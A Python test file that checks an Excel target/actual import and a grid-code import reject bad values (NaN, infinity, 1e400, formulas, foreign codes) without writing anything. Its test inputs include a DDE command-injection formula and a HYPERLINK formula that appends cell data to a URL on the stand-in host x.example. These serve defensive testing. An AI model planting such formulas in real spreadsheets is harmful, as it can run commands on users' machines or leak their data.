"""Imports that used to end in a traceback: Excel cells with NaN, infinity, 1e400 or a
formula, and a grid file whose code another branch or level owns. Each is a problem naming
the row and the field, and nothing is written (SQLite, and PostgreSQL when configured)."""

from __future__ import annotations

import io
import json
import zipfile

import pytest
from openpyxl import load_workbook
from shapely.geometry import mapping
from sqlalchemy import text

from core.grids.changes import Change, NewGrid, apply, change_from_file, check_change, current_grids
from core.performance.sheet_imports import import_actuals, import_targets
from core.performance.target_sheets import (
    ACTUAL_HEADERS,
    ACTUAL_SHEET,
    TARGET_HEADERS,
    TARGET_SHEET,
    actual_template,
    target_template,
)
from core.permissions import Actor
from core.problems import ProblemError
from core.scope import Scope
from geo.io import read_polygons

HQ = Actor(1, Scope("hq"))
MARK = 987654.321  # a number written by openpyxl and then replaced in the sheet's XML


def state(engine) -> tuple:
    with engine.connect() as conn:
        return (
            *tuple(
                conn.execute(text(f"SELECT COUNT(*), SUM(value) FROM {t}")).one()
                for t in ("target", "actual")
            ),
            conn.execute(text("SELECT COUNT(*) FROM target_change")).scalar_one(),
            conn.execute(text("SELECT COUNT(*) FROM audit_log")).scalar_one(),
        )


def saved(wb, raw: bytes | None = None) -> bytes:
    out = io.BytesIO()
    wb.save(out)
    data = out.getvalue()
    if raw is None:
        return data
    src, dst = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zf:
        for name in src.namelist():
            zf.writestr(name, src.read(name).replace(repr(MARK).encode(), raw))
    return dst.getvalue()


@pytest.fixture(scope="module")
def template(seeded_engine) -> bytes:
    """Head office's target workbook (made once: every case edits a fresh copy)."""
    return target_template(seeded_engine, HQ.scope, 2026)


def target_row(ws, code="00101", metric="visits") -> int:
    return next(
        r
        for r in range(2, ws.max_row + 1)
        if (ws.cell(r, 2).value, str(ws.cell(r, 3).value), ws.cell(r, 5).value)
        == ("支行", code, metric)
    )


# value written into the cell, raw text put in the XML instead (None: as written), message
CELLS = {
    "error cell #NUM!": ("#NUM!", None, "不是数字"),  # what Excel shows for infinity
    "1e400 in the xml": (MARK, b"1e400", "不是有效的数值"),
    "-1e400 in the xml": (MARK, b"-1e400", "不是有效的数值"),
    "text nan": ("nan", None, "不是有效的数值"),
    "text Infinity": ("Infinity", None, "不是有效的数值"),
    "text 1e400": ("1e400", None, "不是有效的数值"),
    "absurd size": (1e300, None, "不是有效的数值"),
    "dde formula": ("=cmd|' /C calc'!A0", None, "公式"),
    "hyperlink formula": ('=HYPERLINK("http://x.example/?"&A1,"x")', None, "公式"),
    "sum formula": ("=1+1", None, "公式"),
}


@pytest.mark.parametrize("column", ["全年", "3月", "年度"])
@pytest.mark.parametrize("case", list(CELLS))
def test_bad_target_cells_name_row_and_column_and_write_nothing(
    seeded_engine, template, case, column
):
    value, raw, message = CELLS[case]
    wb = load_workbook(io.BytesIO(template))
    ws = wb[TARGET_SHEET]
    row = target_row(ws)
    ws.cell(row, TARGET_HEADERS.index(column) + 1).value = value
    before = state(seeded_engine)
    with pytest.raises(ProblemError) as err:
        import_targets(seeded_engine, HQ, saved(wb, raw), filename="targets.xlsx")
    assert state(seeded_engine) == before
    texts = [p.text("zh") for p in err.value.problems]
    assert any(f"第{row}行 [{column}]" in t and message in t for t in texts), texts


def test_formula_in_a_code_cell_is_refused(seeded_engine, template):
    wb = load_workbook(io.BytesIO(template))
    ws = wb[TARGET_SHEET]
    row = target_row(ws)
    ws.cell(row, TARGET_HEADERS.index("机构编码") + 1).value = '=HYPERLINK("http://x","00101")'
    before = state(seeded_engine)
    with pytest.raises(ProblemError) as err:
        import_targets(seeded_engine, HQ, saved(wb))
    assert state(seeded_engine) == before
    assert any(
        f"第{row}行 [机构编码]" in p.text("zh") and "公式" in p.text("zh")
        for p in err.value.problems
    )


@pytest.mark.parametrize("case", ["1e400 in the xml", "dde formula"])
def test_bad_actual_cells_name_row_and_column(seeded_engine, case):
    value, raw, message = CELLS[case]
    wb = load_workbook(io.BytesIO(actual_template(seeded_engine, HQ.scope, 2026, 1)))
    ws = wb[ACTUAL_SHEET]
    row = 3  # the first data row, below the watermark line and the header
    ws.cell(row, ACTUAL_HEADERS.index("实际值") + 1).value = value
    before = state(seeded_engine)
    with pytest.raises(ProblemError) as err:
        import_actuals(seeded_engine, HQ, saved(wb, raw), filename="actuals.xlsx")
    assert state(seeded_engine) == before
    assert any(
        f"第{row}行 [实际值]" in p.text("zh") and message in p.text("zh")
        for p in err.value.problems
    )


@pytest.mark.parametrize("raw", [b"NaN", b"inf", b"-Infinity"])
def test_nan_written_into_the_xml_is_a_file_problem(seeded_engine, template, raw):
    """openpyxl writes NaN/inf as empty cells and cannot read them back from the XML: the
    file is refused as a whole (by name), never with a traceback."""
    wb = load_workbook(io.BytesIO(template))
    wb[TARGET_SHEET].cell(target_row(wb[TARGET_SHEET]), 8).value = MARK
    before = state(seeded_engine)
    with pytest.raises(ProblemError) as err:
        import_targets(seeded_engine, HQ, saved(wb, raw), filename="targets.xlsx")
    assert state(seeded_engine) == before
    assert all(
        "targets.xlsx" in p.text("en") and "Excel" in p.text("en") for p in err.value.problems
    )


@pytest.mark.parametrize(
    "data", [b"", b"PK\x03\x04broken", b"name,value\n1,2\n", b"SQLite format 3\x00" + b"\0" * 100]
)
def test_broken_workbooks_name_the_file(seeded_engine, data):
    before = state(seeded_engine)
    with pytest.raises(ProblemError) as err:
        import_targets(seeded_engine, HQ, data, filename="我的目标.xlsx")
    assert state(seeded_engine) == before
    assert all("我的目标.xlsx" in p.text("zh") for p in err.value.problems)


# ---- grid codes ----------------------------------------------------------------------


def grid_file(grids) -> bytes:
    features = [
        {
            "type": "Feature",
            "properties": {"name": g.name, "code": g.code},
            "geometry": mapping(g.geometry),
        }
        for g in grids
    ]
    return json.dumps(
        {"type": "FeatureCollection", "features": features}, ensure_ascii=False
    ).encode()


def grid_state(engine) -> tuple:
    with engine.connect() as conn:
        return (
            conn.execute(text("SELECT COUNT(*) FROM grid_version")).scalar_one(),
            conn.execute(
                text("SELECT code, name, level, branch_id, geometry FROM grid ORDER BY code")
            ).all(),
        )


def test_a_grid_code_owned_elsewhere_is_a_problem_and_nothing_is_written(fresh_county):
    engine = fresh_county
    with engine.connect() as conn:
        branch_id = conn.execute(
            text("SELECT branch_id FROM app_user WHERE username = 'branch'")
        ).scalar_one()
        other = conn.execute(
            text("SELECT code FROM grid WHERE level = 2 AND branch_id <> :b ORDER BY code LIMIT 1"),
            {"b": branch_id},
        ).scalar_one()
        level1 = conn.execute(
            text("SELECT code FROM grid WHERE level = 1 ORDER BY code LIMIT 1")
        ).scalar_one()
    mine = current_grids(engine, 2, branch_id)
    assert len(mine) >= 2
    before = grid_state(engine)
    for taken in (other, level1, "G" * 40):
        mine[0].code = taken
        frame = read_polygons(grid_file(mine), "grids.geojson", "WGS84")
        _change, problems = change_from_file(engine, frame, 2, branch_id)
        assert [(p.row, p.item, p.field) for p in problems] == [(1, mine[0].name, "code")], problems
        assert taken[:20] in problems[0].message("zh") and taken[:20] in problems[0].message("en")
        # the same code in a change built any other way: refused by check_change and apply
        bad = Change(
            2,
            [
                NewGrid(taken, "x", mine[0].geometry, branch_id),
                *[NewGrid(g.code, g.name, g.geometry, branch_id) for g in mine[1:]],
            ],
            branch_id,
        )
        assert any(p.item == taken[:32] for p in check_change(engine, bad))
        with pytest.raises(ValueError):
            apply(engine, bad, Actor(None, Scope("hq")))
    assert grid_state(engine) == before
